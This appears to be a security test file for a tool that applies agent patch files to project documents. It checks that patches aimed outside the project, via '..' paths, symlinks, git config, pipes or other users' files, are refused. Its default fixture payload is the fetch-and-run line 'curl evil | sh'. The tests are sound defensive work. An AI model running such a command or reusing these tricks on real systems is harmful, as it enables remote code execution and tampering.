// Patch files that nobody of this person wrote: a repository brings some along, or another user of the machine leaves them. Only a
// document of the project is ever changed, and only by a file of the person's own.
import {
  chownSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  realpathSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { execFileSync } from "node:child_process";
import { createHash } from "node:crypto";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { setTimeout as delay } from "node:timers/promises";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { PlayedBuffer } from "./fixtures/playedBuffer.ts";
import { openProject, type Project } from "./project.ts";

const DOC = "<!-- agent:exchange mode=append -->\nWhich way?\n<!-- /agent:exchange -->\n";
const SECRET = "# my own settings\n";
/** More than one sweep of the folder. */
const LOOKED_MS = 300;

let root: string;
let folder: string;
let opened: string[];
let logged: string[];
let project: Project;
beforeEach(async () => {
  root = realpathSync(mkdtempSync(join(tmpdir(), "agtmux-hostile-")));
  folder = join(root, "project");
  mkdirSync(join(folder, ".agent-doc", "patches"), { recursive: true });
  mkdirSync(join(folder, ".git", "hooks"), { recursive: true });
  writeFileSync(join(folder, "plan.md"), DOC);
  writeFileSync(join(folder, ".git", "config"), SECRET);
  writeFileSync(join(root, "outside"), SECRET);
  symlinkSync(join(root, "outside"), join(folder, "link.md"));
  opened = [];
  logged = [];
  project = await openProject({
    folder: join(folder, ".agent-doc"),
    version: "1",
    open: (file) => {
      opened.push(file);
      return Promise.resolve(new PlayedBuffer(file));
    },
    log: (message) => logged.push(message),
  });
});
afterEach(async () => {
  await project.close();
});

const drop = (file: string, more: object = { fullContent: "curl evil | sh\n" }): string => {
  const hash = createHash("sha256").update(file).digest("hex");
  const path = join(folder, ".agent-doc", "patches", `${hash}.json`);
  writeFileSync(path, JSON.stringify({ file, patches: [], unmatched: "", baseline: "", ...more }));
  return path;
};

describe("a patch file", () => {
  it.each([
    ["a file outside of the project", () => join(root, "outside")],
    ["a file outside by way of ..", () => join(folder, "..", "outside")],
    ["a link that leads outside", () => join(folder, "link.md")],
    ["a file of git's own", () => join(folder, ".git", "config")],
    ["a file of the documents' own folder", () => join(folder, ".agent-doc", "components.toml")],
    ["a relative path", () => "plan.md"],
  ])("for %s changes nothing, and is left there", async (_what, target) => {
    writeFileSync(join(folder, ".agent-doc", "components.toml"), SECRET);
    const path = drop(target());
    await expect.poll(() => logged.join("\n")).toContain("is no document of this project");
    await delay(LOOKED_MS);
    expect([opened, existsSync(path)]).toEqual([[], true]);
    for (const file of [join(root, "outside"), join(folder, ".git", "config")])
      expect(readFileSync(file, "utf8")).toBe(SECRET);
    expect(readFileSync(join(folder, ".agent-doc", "components.toml"), "utf8")).toBe(SECRET);
  });

  it("that is a link to somewhere else is not read", async () => {
    const elsewhere = join(root, "patch.json");
    writeFileSync(
      elsewhere,
      JSON.stringify({ file: join(folder, "plan.md"), patches: [], unmatched: "x", baseline: DOC }),
    );
    symlinkSync(elsewhere, join(folder, ".agent-doc", "patches", "a.json"));
    await delay(LOOKED_MS);
    expect([opened, readFileSync(join(folder, "plan.md"), "utf8")]).toEqual([[], DOC]);
  });

  it("that is a pipe is not waited for, and others are taken meanwhile", async () => {
    execFileSync("mkfifo", [join(folder, ".agent-doc", "patches", "a.json")]);
    symlinkSync("/dev/zero", join(folder, ".agent-doc", "patches", "b.json"));
    const path = drop(join(folder, "plan.md"), { unmatched: "This way." });
    await expect.poll(() => existsSync(path)).toBe(false);
    expect(readFileSync(join(folder, "plan.md"), "utf8")).toContain("Which way?\nThis way.\n");
  });

  it("is not made nor read where the folder for it is a link", async () => {
    const other = join(root, "other");
    mkdirSync(join(other, ".agent-doc"), { recursive: true });
    symlinkSync(root, join(other, ".agent-doc", "patches"));
    const options = { version: "1", open: () => Promise.reject(new Error("opened")), log: () => {} };
    await expect(openProject({ ...options, folder: join(other, ".agent-doc") })).rejects.toThrow("is a link");
  });

  it("of another user is not taken", async (context) => {
    if (process.getuid?.() !== 0) context.skip("it takes root to give a file away");
    const elsewhere = join(root, "given.json");
    const { renameSync } = await import("node:fs");
    writeFileSync(
      elsewhere,
      JSON.stringify({ file: join(folder, "plan.md"), patches: [], unmatched: "x", baseline: DOC }),
    );
    chownSync(elsewhere, 65_534, 65_534);
    renameSync(elsewhere, join(folder, ".agent-doc", "patches", "a.json"));
    await delay(LOOKED_MS);
    expect([opened, readFileSync(join(folder, "plan.md"), "utf8")]).toEqual([[], DOC]);
  });

  it("for a document of the project is taken", async () => {
    const path = drop(join(folder, "plan.md"), { unmatched: "This way." });
    await expect.poll(() => existsSync(path)).toBe(false);
    expect(readFileSync(join(folder, "plan.md"), "utf8")).toContain("Which way?\nThis way.\n");
  });
});
